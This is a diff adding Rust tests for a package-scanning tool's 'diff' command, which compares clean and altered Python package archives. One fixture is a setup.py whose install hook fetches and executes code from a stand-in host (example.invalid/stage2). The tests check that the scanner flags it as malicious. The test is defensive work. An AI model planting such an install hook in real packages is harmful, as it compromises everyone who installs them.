@@ -224,3 +224,125 @@ fn readme_commands_stay_true() {
     let ci = std::fs::read_to_string(repo().join(".ci/run")).unwrap();
     assert!(ci.contains("cargo test"), ".ci/run must run the tests");
 }
+
+// ---- ferret diff (issue #5: replicated project, hidden additions) ----
+
+const DIFF_PKG_INFO: &[u8] =
+    b"Metadata-Version: 2.1\nName: tidy-widgets\nVersion: 1.2.0\nSummary: Widgets\nAuthor: Jane Doe\n\nLong.\n";
+const DIFF_SETUP: &[u8] =
+    b"from setuptools import setup\nsetup(name='tidy-widgets', version='1.2.0', packages=['tidy_widgets'])\n";
+const DIFF_MODULE: &[u8] =
+    b"import subprocess\n\ndef build():\n    return subprocess.run(['make'])\n";
+const DIFF_HOOKED_SETUP: &[u8] = b"from setuptools import setup
+from setuptools.command.install import install
+import urllib.request
+
+class PostInstall(install):
+    def run(self):
+        exec(urllib.request.urlopen('http://example.invalid/stage2').read())
+        install.run(self)
+
+setup(name='tidy-widgets', version='1.2.0', packages=['tidy_widgets'], cmdclass={'install': PostInstall})
+";
+
+fn diff_sdist(setup: &[u8]) -> Vec<u8> {
+    let files = [
+        ("PKG-INFO", DIFF_PKG_INFO),
+        ("setup.py", setup),
+        ("README.md", b"# tidy widgets\n".as_slice()),
+        ("tidy_widgets/__init__.py", DIFF_MODULE),
+    ];
+    let files: Vec<(String, Vec<u8>)> = files
+        .iter()
+        .map(|(p, d)| (format!("tidy-widgets-1.2.0/{p}"), d.to_vec()))
+        .collect();
+    gzip(&tar(&files))
+}
+
+#[test]
+fn diff_reports_exactly_an_added_install_hook() {
+    let dir = tmpdir("diff-hook");
+    let old = dir.join("old/tidy-widgets-1.2.0.tar.gz");
+    let new = dir.join("new/tidy-widgets-1.2.0.tar.gz");
+    for (p, setup) in [(&old, DIFF_SETUP), (&new, DIFF_HOOKED_SETUP)] {
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, diff_sdist(setup)).unwrap();
+    }
+    let out = ferret(&[
+        "diff",
+        "--format",
+        "json",
+        old.to_str().unwrap(),
+        new.to_str().unwrap(),
+    ]);
+    assert_eq!(out.status.code(), Some(1), "a new threat exits 1");
+    let d: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(d["added_files"], serde_json::json!([]));
+    assert_eq!(d["removed_files"], serde_json::json!([]));
+    assert_eq!(d["changed_files"], serde_json::json!(["setup.py"]));
+    let hooks = d["install_hooks"].as_array().unwrap();
+    assert_eq!(hooks.len(), 1, "{hooks:?}");
+    assert_eq!(hooks[0]["file"], "setup.py");
+    assert!(hooks[0]["description"]
+        .as_str()
+        .unwrap()
+        .contains("cmdclass"));
+    let findings = d["new_findings"].as_array().unwrap();
+    let rules: std::collections::BTreeSet<&str> = findings
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap())
+        .collect();
+    for want in [
+        "cmdclass-override",
+        "install-time-network",
+        "remote-code-load",
+    ] {
+        assert!(rules.contains(want), "{want} missing from {rules:?}");
+    }
+    // Only the hook: every new finding is in setup.py, none in the unchanged module
+    // (whose subprocess call the old package already had).
+    for f in findings {
+        assert_eq!(f["file"], "tidy-widgets-1.2.0/setup.py", "{f}");
+    }
+    assert_eq!(d["old"]["verdict"], "clean");
+    assert_eq!(d["new"]["verdict"], "malicious");
+
+    // The same package against itself adds nothing and exits 0.
+    let out = ferret(&["diff", old.to_str().unwrap(), old.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(0));
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(text.contains("no new findings"), "{text}");
+    assert!(!text.contains("changed files"), "{text}");
+}
+
+#[test]
+fn diff_lines_up_a_wheel_with_its_sdist() {
+    let dir = tmpdir("diff-wheel");
+    let sdist = dir.join("tidy-widgets-1.2.0.tar.gz");
+    std::fs::write(&sdist, diff_sdist(DIFF_SETUP)).unwrap();
+    let wheel = dir.join("tidy_widgets-1.2.0-py3-none-any.whl");
+    std::fs::write(
+        &wheel,
+        zip(&[
+            ("tidy_widgets/__init__.py".into(), DIFF_MODULE.to_vec()),
+            (
+                "tidy_widgets-1.2.0.dist-info/METADATA".into(),
+                DIFF_PKG_INFO.to_vec(),
+            ),
+        ]),
+    )
+    .unwrap();
+    let out = ferret(&[
+        "diff",
+        "--format",
+        "json",
+        sdist.to_str().unwrap(),
+        wheel.to_str().unwrap(),
+    ]);
+    assert_eq!(out.status.code(), Some(0));
+    let d: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(d["added_files"], serde_json::json!([]));
+    assert_eq!(d["changed_files"], serde_json::json!([]));
+    assert_eq!(d["new_findings"], serde_json::json!([]));
+    assert_eq!(d["install_hooks"], serde_json::json!([]));
+}
